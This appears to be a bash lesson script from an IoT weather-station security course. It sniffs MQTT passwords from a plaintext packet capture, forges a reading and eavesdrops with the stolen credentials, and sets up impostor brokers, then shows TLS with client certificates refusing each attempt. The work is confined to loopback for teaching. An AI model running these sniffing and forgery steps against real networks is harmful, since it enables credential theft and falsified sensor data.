#!/usr/bin/env bash
# Lesson 6: the same break-ins against the plaintext network and against the TLS network, side by side.
. "$(dirname "$0")/lesson.lib.sh"
needs mosquitto mosquitto_pub mosquitto_sub openssl curl tshark strings jq ip unshare
own_network "$@"
begin "Lesson 6: intrusion testing"
declare -a ROWS=()
row() { ROWS+=("$1|$2|$3"); }
# The thief owns nothing but a network cable. What it took from the wire lies in `stolen.*`.
password() { sed -n "s/^$1://p" plain/accounts; }

step "Before: passwords, but no TLS"
start tshark 'Capture started' 'tshark -q -i lo -w plain.pcap'
start broker 'listening on' 'wxsec broker run --insecure-lesson --out plain'
start api 'listening on' 'wxsec api serve --insecure-lesson --accounts plain/accounts --db plain.db'
run 'wxsec station run --count 3 --insecure-lesson --accounts plain/accounts --readings 2 --interval 100ms'
claim "three stations report" worked
claim "the eavesdropper has it all" soon file_has plain.pcap 'wx/station-0003/reading'
stop tshark
run 'for who in station-0001 ingest; do
       tshark -n -r plain.pcap -Y "mqtt.username == \"$who\"" -T fields -e mqtt.passwd 2>/dev/null | head -n1 >stolen.$who
     done; wc -c stolen.*'
claim "the password of station-0001 was on the wire" test "$(cat stolen.station-0001)" = "$(password station-0001)"
claim "and that of the API, which may read everything" test "$(cat stolen.ingest)" = "$(password ingest)"
row "passwords on the wire" "readable" "none exists"

say "Now the thief speaks."
start listen 'Subscribed' 'stdbuf -oL mosquitto_sub -d -v -i thief-1 -p 1883 -u ingest -P "$(cat stolen.ingest)" -t wx/+/reading'
cat >forged.json <<JSON
{"temperature_c":-41.5,"dew_point_c":-42.5,"relative_humidity_pct":90,"pressure_hpa":1013,"wind_speed_ms":0,"wind_gust_ms":0,
"wind_direction_deg":0,"precipitation_mm":0,"sequence":900001,"time":"$(date -u +%FT%T.%3NZ)"}
JSON
run 'mosquitto_pub -i thief-2 -p 1883 -u station-0001 -P "$(cat stolen.station-0001)" -q 1 -t wx/station-0001/reading -f forged.json'
claim "a forged reading is published with the stolen password" worked
claim "and everybody's readings can be heard with the other one" soon file_has listen.log 'station-0001/reading .*-41.5'
stop listen
shown() { curl -s 'http://localhost:8080/api/v1/stations/station-0001/latest' | jq -e '.temperature_c == -41.5' >/dev/null; }
claim "the API takes it for the station's latest" soon shown
run 'curl -s http://localhost:8080/api/v1/stations | jq -r ".items | length"'
claim "and tells anybody who asks over HTTP" worked_and_says '^3$'
run 'wxsec attack plaintext --broker mqtt://localhost:1883 --api http://localhost:8080'
claim "wxsec attack does the same in one go and reports BROKEN, exit code 1" exited 1
claim "with a word on each attempt" says 'BROKEN'
stop api
stop broker
say "And if the thief were the broker? This one lets everybody in and writes down what it hears."
printf 'listener 1883\nallow_anonymous true\nuser root\n' >impostor.conf
start impostor 'running' 'mosquitto -v -c impostor.conf'
run 'wxsec station run --count 1 --insecure-lesson --accounts plain/accounts --readings 1 --interval 100ms 2>/dev/null'
claim "the station tells it everything, and is content" worked
claim "the impostor has it in writing" soon file_has impostor.log 'Received PUBLISH from station-0001'
stop impostor
row "an impostor as broker" "gets the readings" "refused by the station"

step "After: the same network over TLS"
run 'wxsec certs init --dir certs --domain wx.test --stations 3 >/dev/null'
start broker 'listening on' 'wxsec broker run --dir certs --out broker'
start api 'listening on' 'wxsec api serve --dir certs --db tls.db'
start tshark 'Capture started' 'tshark -q -i lo -w tls.pcap'
run 'wxsec station run --dir certs --count 3 --readings 2 --interval 100ms'
claim "three stations report" worked
data() { [ "$(tshark -n -r tls.pcap -Y tls.app_data 2>/dev/null | wc -l)" -ge 20 ]; }
claim "the eavesdropper has the packets again" soon data
stop tshark
run 'strings plain.pcap | grep -c temperature_c; strings tls.pcap | grep -c temperature_c || true'
claim "before: readings in clear; after: none" test "$(tail -n1 <<<"$OUT")" = 0 -a "$(head -n1 <<<"$OUT")" -gt 0
row "a reading on the wire" "$(strings plain.pcap | grep -m1 -o '"temperature_c":[-0-9.]*')" "ciphertext only"
run 'tshark -n -r tls.pcap -Y "mqtt or http" 2>/dev/null | wc -l'
claim "no MQTT, no HTTP, no password to steal" says '^0$'

step "The thief tries again"
run 'mosquitto_pub -p 1883 -u station-0001 -P "$(cat stolen.station-0001)" -t wx/station-0001/reading -m x'
claim "port 1883 is closed" failed_and_says 'refused'
run 'mosquitto_pub -p 8883 -u station-0001 -P "$(cat stolen.station-0001)" -t wx/station-0001/reading -m x'
claim "and on 8883 nobody speaks plaintext" failed
row "publish without TLS" "accepted" "refused"
run 'mosquitto_sub -p 8883 -W 3 -t "#"'
claim "subscribing without TLS brings nothing" failed
row "subscribe without TLS" "accepted" "refused"
run 'curl -s -i http://localhost:8443/api/v1/stations'
claim "HTTP on the API's port brings no data" says_nothing_of 'station-0001'
run 'curl -sS http://localhost:8080/api/v1/stations'
claim "and the old port is closed" exited 7
row "the API over HTTP" "200, all readings" "no data"

step "The thief brings a certificate"
run 'mosquitto_pub -p 8883 -h localhost --cafile certs/ca.pem -t wx/station-0001/reading -m x'
claim "none at all: refused" failed
row "no client certificate" "not asked for" "refused"
run 'openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout thief.key -out thief.crt -subj /CN=station-0001 -days 1'
run 'mosquitto_pub -p 8883 -h localhost --cafile certs/ca.pem --cert thief.crt --key thief.key -t wx/station-0001/reading -m x'
claim "one with the right name from its own authority: refused" failed
claim "the broker says for what reason" soon file_has broker.log 'certificate verify failed|unknown ca'
row "home-made certificate" "not asked for" "refused"
run 'wxsec attack plaintext --dir certs --broker mqtts://localhost:8883 --api https://localhost:8443'
claim "wxsec attack: everything held, exit code 0" worked_and_says 'HELD'
claim "and nothing was broken" says_nothing_of 'BROKEN'

step "The thief poses as the broker"
say "Somebody in between answers on the broker's port, with a certificate of his own. Will the station tell him its readings?"
stop api
stop broker
run 'openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout mitm.key -out mitm.crt -subj /CN=localhost -addext subjectAltName=DNS:localhost -days 1'
mkfifo silence  # s_server ends when its input does; this one never says anything
start mitm 'ACCEPT' 'openssl s_server -accept 8883 -cert mitm.crt -key mitm.key <>silence'
run 'wxsec station run --dir certs --count 1 --readings 1 --interval 100ms'
claim "the station refuses before it says anything" failed
claim "and tells why" says 'certificate'
claim "the impostor heard not a word" file_lacks mitm.log 'MQTT|temperature|station-0001'
RUN_SECONDS=2 run 'mosquitto_pub -i station-0001 -p 8883 -h localhost --cafile mitm.crt -t wx/station-0001/reading -m x'
claim "a client that trusts him tells him who it is at once (so our ear was open)" soon file_has mitm.log 'MQTT.*station-0001'
stop mitm

step "Only your own network"
say "Attempts go to loopback freely. For any other host wxsec wants a scope file that names it, and sends nothing without."
run 'wxsec attack plaintext --broker mqtts://broker.example.org:8883'
claim "exit code 5, and not a packet" exited 5

step "Side by side"
printf '     %-26s %-26s %s\n' "" "plaintext" "TLS"
for line in "${ROWS[@]}"; do IFS='|' read -r what before after <<<"$line"; printf '     %-26s %-26s %s\n' "$what" "$before" "$after"; done
say "Each cell was observed above. The whole of it as a report with packets: wxsec lab. More: wxsec explain intrusion"
finish
